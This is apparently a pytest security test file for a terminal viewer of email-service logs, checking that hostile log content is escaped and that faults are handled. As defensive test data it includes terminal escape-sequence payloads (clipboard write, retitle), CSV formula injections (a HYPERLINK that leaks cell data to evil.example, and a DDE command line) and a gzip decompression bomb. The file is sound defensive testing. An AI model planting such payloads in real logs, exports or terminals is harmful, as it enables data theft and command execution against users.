"""Hostile input, terminal safety, faults and bounded memory (see SECURITY.md)."""

from __future__ import annotations

import csv
import errno
import gzip
import os
import pty
import select
import signal
import subprocess
import sys
import time

import orjson
import pytest

from factory import BASE, bounce, cloudtrail, complaint, delivery, event, jsonl, send, sns
from helpers import ROOT, SHARED, events, ingest
from sestui import export
from sestui import geo as g
from sestui.framing import Framer
from sestui.ingest import StreamIngest
from sestui.paths import classify
from sestui.sources import ERROR, FOLLOWING, Follower, Options
from sestui.store import Store
from sestui.ui.widgets.tables import Table
from ui_support import cells, sample_app

# -- terminal safety ------------------------------------------------------------------------

# What an attacker can put in any string field of a log record.
PAYLOAD = (
    "[bold]b[/]"  # Rich / Textual markup
    "[@click=app.quit]q[/]"  # a click action
    "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;pwned\x1b\\"  # OSC 0: retitle the terminal
    "\x1b[2J\x1b[31m"  # CSI: clear the screen, colour
    "\x9b6n"  # C1 CSI: ask the terminal to report (answer would be typed as input)
    "bel\x07bs\x08cr\rlf"
    "\u202eevil\u202c\u200bzw"  # right-to-left override, zero-width space
)
CITY = SHARED / "geoip" / "GeoLite2-City-Test.mmdb"
RAW_SEQUENCES = ("\x1b]52", "\x1b]0;pwned", "\x1b[2J", "\x9b", "bel\x07", "bs\x08", "cr\rlf", "\u202e", "\u200b")


def hostile_records() -> list[dict]:
    address = f"{PAYLOAD}@evil.example"
    records = [bounce(BASE + i, address) for i in range(2)]
    for record in records:
        record["bounce"]["bouncedRecipients"][0]["diagnosticCode"] = PAYLOAD
        record["mail"]["source"] = PAYLOAD
        record["mail"]["tags"] = {"ses:configuration-set": [PAYLOAD], "campaign": [PAYLOAD]}
    spam = complaint(BASE + 3, address, feedback=PAYLOAD, agent=PAYLOAD)
    click = event("Click", BASE + 4, [address], "click", {"ipAddress": PAYLOAD, "userAgent": PAYLOAD, "link": PAYLOAD, "timestamp": ""})
    slow = delivery(BASE + 5, address, ms=999_999, mta=PAYLOAD)
    call = cloudtrail(BASE + 6, PAYLOAD, error=PAYLOAD, user=PAYLOAD)
    call["errorMessage"] = PAYLOAD
    return [*records, spam, click, slow, call]


def terminal_output(app) -> str:  # type: ignore[no-untyped-def]
    """Exactly what the app would write to the terminal for a full repaint."""
    return app.screen._compositor.render_update(full=True).render_segments(app.console)  # noqa: SLF001


def assert_safe(output: str) -> None:
    for sequence in RAW_SEQUENCES:
        assert sequence not in output, repr(sequence)


async def test_no_log_value_is_interpreted_or_reaches_the_terminal_on_any_screen():
    app = sample_app(ingest(jsonl(hostile_records())))
    async with app.run_test(size=(200, 60)) as pilot:
        app.tick()
        for key in "1234567":
            await pilot.press(key)
            await pilot.pause()
            output = terminal_output(app)
            assert_safe(output)
            assert app.is_running
        await pilot.press("2")
        await pilot.pause()
        shown = cells(app.query_one("#t-bounce_addresses", Table))[0][0]
        assert shown.startswith("[bold]b[/][@click=app.quit]q[/]\\x1b]52;c;zxzpba==\\x07")  # literal, lower-cased
        await pilot.press("enter")  # the drilldown list
        await pilot.pause()
        assert_safe(terminal_output(app))
        await pilot.press("enter")  # the event detail: fields and the original record
        await pilot.pause()
        output = terminal_output(app)
        assert_safe(output)
        assert "\\u202eevil" in output  # the override is shown, not obeyed
        await pilot.press("escape", "escape")
        await pilot.click(app.query_one("#t-bounce_addresses", Table), offset=(6, 1))
        await pilot.pause()
        assert app.is_running  # the [@click=app.quit] cell is inert


# A file name can hold all of PAYLOAD but its "/".
NAME = PAYLOAD.replace("/", "|")


@pytest.mark.parametrize("keys", [("2", "e"), ("ctrl+s",)], ids=["export", "screenshot"])
async def test_a_notification_quoting_a_path_reaches_the_terminal_cleaned(tmp_path, keys):
    """'Exported ... to PATH', 'Screenshot saved to PATH': the export directory is the user's,
    but a name copied from a log, or made by someone else, is no more to be obeyed."""
    directory = tmp_path / NAME
    directory.mkdir()
    app = sample_app()
    app.export_dir = str(directory)
    async with app.run_test(size=(160, 50), notifications=True) as pilot:
        app.tick()
        await pilot.press(*keys)
        await pilot.pause()
        assert len(app._notifications) == 1  # noqa: SLF001
        output = terminal_output(app)
        assert_safe(output)
        assert "[bold]b[|]" in output  # the path, shown literally


async def test_geoip_paths_and_errors_reach_the_geo_tab_cleaned(tmp_path):
    geo, note = g.load([str(tmp_path / f"{NAME}.mmdb")])  # as `--geoip-db` gives it
    assert geo is None
    app = sample_app()
    app.geo_note = note
    async with app.run_test(size=(160, 50)) as pilot:
        app.tick()
        await pilot.press("6")
        await pilot.pause()
        output = terminal_output(app)
        assert "GeoIP unavailable" in output
        assert_safe(output)
        assert "\\x1b]0;pwned" in output  # shown, escaped


@pytest.mark.skipif(not CITY.exists(), reason="MaxMind test databases (../shared/geoip) are not here")
async def test_a_geoip_database_path_and_metadata_reach_the_geo_tab_cleaned(tmp_path):
    data = CITY.read_bytes()
    metadata = data.rfind(b"\xab\xcd\xefMaxMind.com")
    hostile = b"\x1b]0;pwnd\x07City"  # as long as "GeoLite2-City": the file still opens
    path = tmp_path / f"{NAME}.mmdb"
    path.write_bytes(data[:metadata] + data[metadata:].replace(b"GeoLite2-City", hostile, 1))
    app = sample_app()
    app.geo = g.Geo([str(path)])
    assert app.geo.database["type"] == hostile.decode()
    app.locate = app.geo.place
    async with app.run_test(size=(160, 50)) as pilot:
        app.tick()
        await pilot.press("6")
        await pilot.pause()
        output = terminal_output(app)
        assert "built 2026-02-04" in output  # the database header
        assert_safe(output)
        assert "\x1b]0;pwnd" not in output
        assert "\\x1b]0;pwnd\\x07City" in output  # shown, escaped


async def test_a_filter_from_the_command_line_reaches_the_filter_bar_cleaned():
    """The filter bar opens on the filter applied: its control characters are globs by then,
    which still match them."""
    app = sample_app(ingest(jsonl(hostile_records())))
    app._initial_filter = "source:*\x1b]0;pwned\x1b\\*"  # noqa: SLF001  (what --filter sets)
    async with app.run_test(size=(160, 50)) as pilot:
        app.tick()
        await pilot.press("f")
        await pilot.pause()
        assert app.filter_text == "source:*?]0;pwned?\\*"
        output = terminal_output(app)
        assert "pwned" in output  # the bar shows it
        assert_safe(output)
        await pilot.press("escape")
        await pilot.pause()
    app = sample_app(ingest(jsonl(hostile_records())))
    app._initial_filter = "source:*\x1b]0;pwned\x1b\\*"  # noqa: SLF001
    async with app.run_test(size=(160, 50)) as pilot:
        app.tick()
        await pilot.pause(0.5)
        app.tick()
        assert app.store.view is not None and len(app.store.view.ring) == 2  # the two bounces' source


def test_an_export_is_named_after_what_it_holds_whole(tmp_path):
    from sestui.export import export_path

    message_id = "010001a252d08fed-2a3e7c41-5b1a-4e8e-9c4d-c2f0877b14ff-000000"
    assert export_path(str(tmp_path), f"Delivery {message_id}", "jsonl", clock=0).endswith(f"/sestui-Delivery-{message_id}-19700101T000000Z.jsonl")
    heading = "Top bounced domains: outlook.com · 139 events · 139 recipients · 24h"
    assert "-outlook.com-139-events-139-recipients-24h-" in export_path(str(tmp_path), heading, "jsonl")
    assert len(os.path.basename(export_path(str(tmp_path), "x" * 1000, "csv"))) < 160  # far below any file system's limit


def test_report_text_and_exports_carry_no_raw_control_sequences(tmp_path):
    data = jsonl(hostile_records())
    result = subprocess.run([sys.executable, "-m", "sestui", "report", "-"], input=data, capture_output=True, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0
    text = result.stdout.decode()
    assert "[bold]b[/]" in text  # shown, as text
    assert_safe(text)
    store = ingest(data)
    jsonl_path = tmp_path / "events.jsonl"
    export.write_jsonl(str(jsonl_path), events(store))
    exported = jsonl_path.read_text()
    assert_safe(exported)
    assert [orjson.loads(line) for line in exported.splitlines()][0]["bounce"]["bouncedRecipients"][0]["diagnosticCode"] == PAYLOAD
    csv_path = tmp_path / "table.csv"
    export.write_csv(str(csv_path), ["value"], [[PAYLOAD]])
    assert_safe(csv_path.read_text())


def test_file_names_picked_by_a_glob_reach_stderr_and_stdout_cleaned(tmp_path):
    """Whoever can write into a watched directory chooses its file names: an unreadable one is
    still one clean line on stderr, and `report --follow` lists the sources cleaned."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    logs = tmp_path / "logs"
    logs.mkdir()
    os.symlink("/proc/self/mem", logs / f"a\n{NAME}.jsonl")  # unreadable even for root (EIO)
    result = subprocess.run([sys.executable, "-m", "sestui", "report", str(logs / "*")], capture_output=True, timeout=60, env=env)
    err = result.stderr.decode()
    assert result.returncode == 2 and err.count("\n") == 1 and err.startswith("sestui: cannot read")
    assert_safe(err)
    (logs / f"a\n{NAME}.jsonl").unlink()
    (logs / f"x{NAME}.jsonl").write_bytes(jsonl([send(BASE)]))
    child = subprocess.Popen(
        [sys.executable, "-m", "sestui", "report", "--follow", "--every", "0.2", str(logs / "*")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    time.sleep(2)
    child.send_signal(signal.SIGINT)
    out, _ = child.communicate(timeout=30)
    sources = [line for line in out.decode().splitlines() if line.startswith("source ")]
    assert sources
    assert_safe("\n".join(sources))


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
)
def test_a_csv_export_never_hands_a_spreadsheet_a_formula_from_a_log(tmp_path, value):
    path = tmp_path / "table.csv"
    export.write_csv(str(path), ["Address", "Count", "Time"], [[value, -3, "-"]])
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["'" + value, "-3", "-"]  # the value, as text; numbers and a lone "-" as they are


# -- hostile input --------------------------------------------------------------------------


def test_a_decompression_bomb_is_stopped_and_reported():
    bomb = gzip.compress(b"\n" * (200 << 20), compresslevel=9)  # 200 MiB of newlines in ~200 KiB
    assert len(bomb) < 1 << 20
    store = ingest(bomb, chunk=1 << 16)
    assert store.stats.skipped.get("gzip_bomb") == 1
    assert store.stats.lines < 100 << 20  # stopped long before the end
    assert any("expands more than 64x" in note for note in store.notes)


def test_a_100_mb_line_without_newline_streams_through_in_bounded_memory():
    framer = Framer(max_record_bytes=1 << 20)
    piece = b"x" * (1 << 20)
    peak = 0
    for _ in range(100):
        framer.feed(piece)
        peak = max(peak, framer.buffered)
    closed = framer.close()
    assert peak <= 2 << 20
    assert [v.reason for v, _ in closed] == ["oversized"] and framer.lines == 1


@pytest.mark.parametrize(
    "data, reason",
    [
        (b"\x00" * 100_000, "not_json"),  # a file of NULs: one line, no JSON in it
        (b'{"eventType":"Send","mail":{"source":"\xff\xfe bad utf-8"}}\n', None),
        (b'{"eventType":"Send","mail":{"source":"lone \\ud800 surrogate"}}\n', None),
    ],
)
def test_nuls_invalid_utf8_and_surrogates_are_counted_or_repaired(data, reason):
    store = ingest(data)
    if reason:
        assert store.stats.skipped == {reason: 1}
    else:
        [found] = events(store)
        assert "\ufffd" in found.source  # replaced, so it can be shown and exported
        assert orjson.dumps(found.source)


def test_rtl_and_zero_width_characters_in_addresses_are_kept_but_shown_escaped():
    from sestui.ui.safe import cell

    address = "admin\u202egro.elpmaxe\u202c@\u200bbank.example"
    [found] = events(ingest(jsonl([bounce(BASE, address)])))
    assert found.recipients == (address,)  # the data is not altered
    assert cell(address).plain == "admin\\u202egro.elpmaxe\\u202c@\\u200bbank.example"


# What one cell or two hold: a wide character (CJK, most emoji), a letter and a combining
# accent, a letter and a combining grapheme joiner (drawn as nothing; the zero-width space,
# by contrast, is shown escaped, see above).
@pytest.mark.parametrize("grapheme, cells", [("測", 2), ("😀", 2), ("e\u0301", 1), ("a\u034f", 1)], ids=["cjk", "emoji", "combining", "zero-width"])
def test_a_value_cut_to_a_width_is_cut_to_that_many_terminal_cells(grapheme, cells):
    from rich.cells import cell_len

    from sestui.textsafe import clean_line

    value = grapheme * (60 // cells)  # 60 cells
    assert clean_line(value, 60) == value  # as wide as the limit: whole, however many characters
    for limit in (10, 21, 59):
        line = clean_line(value, limit)
        assert line.endswith("…") and limit - 1 <= cell_len(line) <= limit, (limit, line)
        shown = line[:-1].rstrip(" ")  # a wide character cut in half becomes a space
        assert shown == grapheme * (len(shown) // len(grapheme)), line  # no accent parted from its letter


def test_sns_envelopes_nested_or_carrying_garbage_are_accounted_for():
    nested = bounce(BASE)
    for _ in range(4):
        nested = sns(nested)
    garbage = [sns(send(BASE)) | {"Message": message} for message in ("", "{", "{}", "[1,2]", "null", "\x00\x01", "{" * 2000)]
    store = ingest(jsonl([nested, *garbage]))
    assert [e.kind for e in events(store)] == ["Bounce"]
    assert store.stats.records == 1 + len(garbage)
    assert store.stats.events + sum(store.stats.skipped.values()) == store.stats.records


# -- faults ---------------------------------------------------------------------------------


def run_in_pty(args: list[str], signum: int) -> tuple[int, bytes]:
    pid, fd = pty.fork()
    if pid == 0:  # the child: sestui on a real terminal
        os.chdir(ROOT)
        os.execv(sys.executable, [sys.executable, "-m", "sestui", *args])
    output = b""
    started = time.monotonic()
    while time.monotonic() - started < 20 and b"Overview" not in output:
        if select.select([fd], [], [], 0.1)[0]:
            try:
                output += os.read(fd, 65536)
            except OSError:
                break
    time.sleep(0.5)
    os.kill(pid, signum)
    while True:
        if select.select([fd], [], [], 5)[0]:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                break
            if not chunk:
                break
            output += chunk
        else:
            break
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), output


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_signals_exit_cleanly_and_restore_the_terminal(signum):
    code, output = run_in_pty(["tail", "sample_logs/"], signum)
    assert code == 0
    assert b"\x1b[?1049l" in output  # left the alternate screen
    assert f"stopped by {signal.Signals(signum).name}".encode() in output


async def test_resizing_to_a_tiny_terminal_and_back():
    app = sample_app()
    async with app.run_test(size=(120, 40)) as pilot:
        app.tick()
        for key in "1234567":
            await pilot.press(key)
            await pilot.resize_terminal(20, 5)
            app.tick()
            await pilot.pause()
            await pilot.resize_terminal(120, 40)
            await pilot.pause()
            assert app.is_running
        assert cells(app.query_one("#t-mta", Table))  # back to normal: tables still filled


async def test_a_full_disk_while_exporting_is_reported_not_fatal(tmp_path, monkeypatch):
    def no_space(*args: object, **kwargs: object) -> object:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export, "open", no_space, raising=False)
    app = sample_app()
    app.export_dir = str(tmp_path)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        app.tick()
        await pilot.press("2", "e")
        await pilot.pause()
        messages = [n.message for n in app._notifications]  # noqa: SLF001
        assert any("Export failed: No space left on device" in m for m in messages)
        assert app.is_running


def test_a_fifo_with_no_writer_does_not_hold_up_other_inputs(tmp_path):
    fifo = tmp_path / "nobody-writes"
    os.mkfifo(fifo)
    log = tmp_path / "ses.jsonl"
    log.write_bytes(jsonl([send(BASE + i) for i in range(10)]))
    store = Store()
    follower = Follower([classify(str(fifo)), classify(str(log))], store, Options())
    follower.start()
    deadline = time.monotonic() + 10
    while store.stats.lines < 10 and time.monotonic() < deadline:
        time.sleep(0.02)
    assert store.stats.lines == 10
    started = time.monotonic()
    follower.stop()
    follower.join(5)
    assert time.monotonic() - started < 5  # stopping does not wait for the blocked reader


def test_permission_denied_is_reported_once_and_the_rest_keep_flowing(tmp_path, monkeypatch):
    import sestui.sources as sources

    good, locked = tmp_path / "good.jsonl", tmp_path / "locked.jsonl"
    good.write_bytes(jsonl([send(BASE)]))
    locked.write_bytes(jsonl([send(BASE)]))
    real_open = os.open

    def guarded(path: object, *args: object) -> int:
        if str(path) == str(locked):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(sources.os, "open", guarded)
    store = Store()
    follower = Follower([classify(str(good)), classify(str(locked))], store, Options())
    follower.start()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not (store.stats.events == 1 and any(s.state == ERROR for s in follower.statuses)):
        time.sleep(0.02)
    time.sleep(follower.options.poll_interval * 2)  # more polls: the error is still reported once
    status = {s.path: s for s in follower.statuses}
    assert status[str(locked)].state == ERROR and "Permission denied" in status[str(locked)].error
    assert status[str(good)].state == FOLLOWING and store.stats.events == 1
    assert sum("Permission denied" in note for note in store.notes) == 1
    follower.stop()


def test_a_symlink_loop_in_a_watched_tree_is_not_walked(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "loop").symlink_to(tmp_path)
    (tmp_path / "a" / "x.jsonl").write_bytes(jsonl([send(BASE)]))
    assert classify(str(tmp_path)).matches() == [str(tmp_path / "a" / "x.jsonl")]
    assert classify(str(tmp_path / "**" / "*.jsonl")).matches() == [str(tmp_path / "a" / "x.jsonl")]


# -- bounded memory -------------------------------------------------------------------------


def test_a_million_distinct_addresses_keep_the_per_key_tables_bounded():
    store = Store(max_events=1000)
    stream = StreamIngest(store)
    template = orjson.dumps(bounce(BASE, "ADDRESS@DOMAIN")).replace(b'"0100-feedback"', b'"FEEDBACK"')
    batch = []
    for i in range(1_000_000):
        hot = i % 50 == 0
        line = template.replace(b"ADDRESS@DOMAIN", b"hot@hot.example" if hot else b"u%d@d%d.example" % (i, i))
        line = line.replace(b"FEEDBACK", b"feedback-%d" % i)  # a million bounces, not one seen again
        batch.append(line)
        if len(batch) == 20_000:
            stream.feed(b"\n".join(batch) + b"\n")
            batch = []
    sketches = store.main.sketches
    assert store.stats.events == 1_000_000
    for name in ("bounce_addresses", "bounce_domains"):
        assert len(sketches[name]) < 2 * sketches[name].capacity
    top, count = sketches["bounce_addresses"].top(1)[0]
    assert top == "hot@hot.example"
    assert 20_000 - sketches["bounce_addresses"].error <= count <= 20_000
    assert len(store.main.ring) == 1000
